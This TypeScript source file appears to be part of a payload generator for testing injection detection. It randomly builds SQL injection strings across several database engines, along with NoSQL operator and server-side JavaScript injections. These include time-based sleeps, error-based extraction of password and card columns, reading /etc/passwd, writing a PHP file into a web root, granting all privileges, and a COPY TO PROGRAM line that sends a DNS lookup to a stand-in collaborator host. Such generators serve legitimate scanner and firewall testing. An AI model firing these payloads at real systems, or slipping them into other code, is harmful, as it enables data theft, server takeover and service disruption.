import type { Payload } from '../attack.ts';
import type { Random } from '../random.ts';

const RELATIONS = [
  'tbl_user',
  'wp_users',
  'app.member',
  'credentials',
  'invoice',
  'sysobjects',
  'sqlite_master',
  'pg_user',
  'all_tables',
];
const ATTRIBUTES = ['passwd', 'user_pass', 'secret', 'hash', 'mail', 'usename', 'sql', 'card_no', 'name'];

function subselect(r: Random): string {
  return r.pick([
    `(SELECT TOP 1 ${r.pick(ATTRIBUTES)} FROM ${r.pick(RELATIONS)})`,
    `(SELECT ${r.pick(ATTRIBUTES)} FROM ${r.pick(RELATIONS)} LIMIT 1 OFFSET ${r.int(0, 30)})`,
    `(SELECT banner FROM v$version WHERE rownum=${r.int(1, 4)})`,
    `(SELECT GROUP_CONCAT(${r.pick(ATTRIBUTES)}) FROM ${r.pick(RELATIONS)})`,
  ]);
}

/** The way commercial scanners and newer tools write injection, for other engines than MySQL alone. */
export function injection(r: Random): Payload {
  const id = r.int(10, 99999);
  const tag = r.token(4);
  const wait = r.int(5, 15);
  return r.pick<() => Payload>([
    () => say('arithmetic truth', `-1 OR ${r.int(2, 9)}*${r.int(2, 9)}>(0+${r.int(1, 5)}+${id}-${id})`),
    () =>
      say(
        'arithmetic truth quoted',
        `-1' OR ${r.int(2, 5)}+${id}-${id}-1=0+0+0+1 --${r.pick([' ', ' -', '+'])}`,
      ),
    () => slow('xor sleep', `${r.int(0, 9)}'XOR(if(now()=sysdate(),sleep(${wait}),0))XOR'${tag}`, wait),
    () =>
      slow(
        'oracle pipe',
        `${id}' AND ${id}=DBMS_PIPE.RECEIVE_MESSAGE(CHR(${r.int(65, 90)})||CHR(${r.int(65, 90)}),${wait}) AND '${tag}'='${tag}`,
        wait,
      ),
    () =>
      slow(
        'heavy blob',
        `${id} AND ${id}=LIKE(CHAR(65,66,67),UPPER(HEX(RANDOMBLOB(${r.int(1, 9)}00000000/2))))`,
        0,
      ),
    () => slow('rlike sleep', `${tag}" RLIKE SLEEP(${wait}) AND "${tag}"="${tag}`, wait),
    () => say('convert error', `${id}' AND 1=CONVERT(int,${subselect(r)})--`),
    () =>
      say(
        'cast error',
        `${id} AND ${id}=CAST((CHR(113)||CHR(${r.int(97, 122)})||${subselect(r)}::text||CHR(113)) AS NUMERIC)`,
      ),
    () =>
      say('gtid error', `${id}' OR GTID_SUBSET(CONCAT(0x71${r.hex(6)},${subselect(r)}),${id}) OR '${tag}'='`),
    () => say('oracle address error', `'||UTL_INADDR.GET_HOST_ADDRESS(${subselect(r)})||'${tag}`),
    () =>
      say(
        'oracle xml',
        `${id}' UNION SELECT EXTRACTVALUE(xmltype('<?xml version="1.0"?><r>${tag}</r>'),'/l') FROM dual--`,
      ),
    () => say('json keys error', `${id} AND JSON_KEYS((SELECT CONVERT(${subselect(r)} USING utf8)))`),
    () => say('parentheses for blanks', `${tag}'or(${r.int(1, 9)})<(${r.int(10, 99)})#`),
    () =>
      say(
        'no keyword',
        `${tag}${r.pick(["'=''or'", "'^(select 1)^'", "'&&'1'='1"])}${r.pick([' --+', '#', "' --"])}`,
      ),
    () => say('between', `${tag}' AND ${id} BETWEEN ${id - 1} AND ${id + 1} AND 'x'='x`),
    () => say('case', `${id} AND (CASE WHEN (${subselect(r)} LIKE '${r.hex(1)}%') THEN 1 ELSE 1/0 END)=1`),
    () =>
      say(
        'union by hex',
        `${id}' UNION/*${r.hex(2)}*/ALL/**/SELECT 0x${r.hex(8)},${r.pick(ATTRIBUTES)},0x${r.hex(4)} FROM ${r.pick(RELATIONS)}-- ${tag}`,
      ),
    () =>
      say(
        'union by numbers',
        `${id}.0UNION SELECT ${Array.from({ length: r.int(3, 9) }, () => r.pick(['CHAR(113)', 'NULL', '1', 'CHR(98)'])).join(',')} FROM ${r.pick(RELATIONS)}`,
      ),
    () =>
      say(
        'scientific number',
        `1e0UNION%0aSELECT ${r.pick(ATTRIBUTES)} FROM ${r.pick(RELATIONS)}`.replace('%0a', '\n'),
      ),
    () => say('file write', `${id}' UNION SELECT '${tag}' INTO OUTFILE '/var/www/html/${tag}.php'#`),
    () => say('file read', `-${id}' UNION ALL SELECT LOAD_FILE(0x2f6574632f706173737764),${id}#`),
    () =>
      say('postgres copy', `${id}'; COPY ${r.pick(RELATIONS)} TO PROGRAM 'nslookup ${tag}.collab.example'--`),
    () =>
      say('stacked declare', `${id}';DECLARE @${tag} varchar(99);SET @${tag}=0x${r.hex(10)};EXEC(@${tag})--`),
    () =>
      say(
        'sqlite listing',
        `${tag}') UNION SELECT ${r.pick(['tbl_name', 'sql'])} FROM sqlite_master WHERE type='table' LIMIT ${r.int(1, 9)} --`,
      ),
    () => say('grant', `${id}; GRANT ALL PRIVILEGES ON *.* TO '${tag}'@'%' --`),
    () =>
      say(
        'exists quoted by double quotes',
        `${tag}" OR EXISTS(SELECT 1 FROM ${r.pick(RELATIONS)}) OR "${tag}"="${tag}2`,
      ),
    () =>
      say('blind regexp', `${id}' AND ${subselect(r)} REGEXP '^[a-${r.pick(['f', 'm', 'z'])}]' -- ${tag}`),
    () => say('full-width quote', `${tag}\u02bc OR ${id}=${id} -- `),
    () => say('line comments as blanks', `${id}'--${tag}\nOR--${tag}\n${id}=${id}#`),
  ])();
}

function say(technique: string, text: string): Payload {
  return { technique, text };
}

function slow(technique: string, text: string, delaySeconds: number): Payload {
  return delaySeconds === 0 ? { technique, text } : { technique, text, delaySeconds };
}

const KEYS = ['account', 'pin', 'otp', 'resetCode', 'mail', 'nick', 'apiUser'];

/** Bracketed operators of Express and PHP style parsers. */
export function bracketed(r: Random): { readonly text: string; readonly technique: string } {
  const key = r.pick(KEYS);
  const op = r.pick(['$nin', '$exists', '$not', '$where']);
  const value =
    { $exists: 'true', $where: `sleep(${r.int(1, 9)}000)`, $nin: r.hex(3), $not: `^${r.hex(2)}` }[op] ?? '1';
  const inner = op === '$nin' ? `[${op}][]` : op === '$not' ? '[$not][$regex]' : `[${op}]`;
  const text = `${key}${inner}=${value}`;
  const [technique, written] = r.pick([
    ['bracketed operator', text],
    [
      'percent-encoded brackets and dollar',
      text.replaceAll('[', '%5b').replaceAll(']', '%5d').replaceAll('$', '%24'),
    ],
    ['nested under a filter', text.replace(key, `filter[${key}]`)],
  ] as const);
  return { technique, text: written };
}

/** Documents with query operators; the text is what stands on the wire. */
export function operatorDocument(r: Random): { readonly text: string; readonly technique: string } {
  const key = r.pick(KEYS);
  return r.pick([
    () => ({
      technique: 'always-true disjunction',
      text: JSON.stringify({ $or: [{}, { [key]: r.hex(2) }], secret: { $exists: true } }),
    }),
    () => ({
      technique: 'list of guesses',
      text: JSON.stringify({ [key]: { $in: ['admin', 'root', r.hex(3)] }, pass: { $nin: [r.hex(2)] } }),
    }),
    () => ({
      technique: 'server function',
      text: JSON.stringify({
        $expr: {
          $function: { body: `function(){return sleep(${r.int(1000, 9000)})||true}`, args: [], lang: 'js' },
        },
      }),
    }),
    () => ({
      technique: 'escaped dollar',
      text: JSON.stringify({ [key]: { $ne: r.hex(2) }, pass: { $gt: '' } }).replaceAll('$', '\\u0024'),
    }),
    () => ({
      technique: 'negated expression',
      text: JSON.stringify({ [key]: { $not: { $regex: `^${r.hex(2)}` } }, pass: { $exists: true } }),
    }),
    () => ({
      technique: '$where with sleep',
      text: JSON.stringify({ $where: `sleep(${r.int(500, 5000)}) || this.${key} == "${r.hex(2)}"` }),
    }),
    () => ({
      technique: 'graph variables',
      text: JSON.stringify({
        query: 'query($u: JSON){ login(user: $u){ token } }',
        variables: { u: { [key]: { $ne: null }, tag: r.hex(3) } },
      }),
    }),
  ])();
}

export function databaseScript(r: Random): Payload {
  const t = r.token(3);
  const text = r.pick([
    `${t}';sleep(${r.int(2000, 9000)});'${t}`,
    `${t}" && this.pass${r.pick(['word', 'code'])}.match(/.*/)//+%00`.replace('%00', ''),
    `${t}'}); db.${r.pick(['users', 'log'])}.insert({pwn:'${t}'}); var x=({a:'`,
    `'||(function(){return this.${r.pick(['role', 'admin'])}})()||'${t}`,
    `${t}';var d=new Date();do{c=new Date();}while(c-d<${r.int(2000, 9000)});'`,
    `0;return tojson(this.${r.pick(['hash', 'salt'])})!='${t}'`,
  ]);
  return { technique: 'script of a document database', text, alsoFamilies: ['sql-injection', 'xss'] };
}
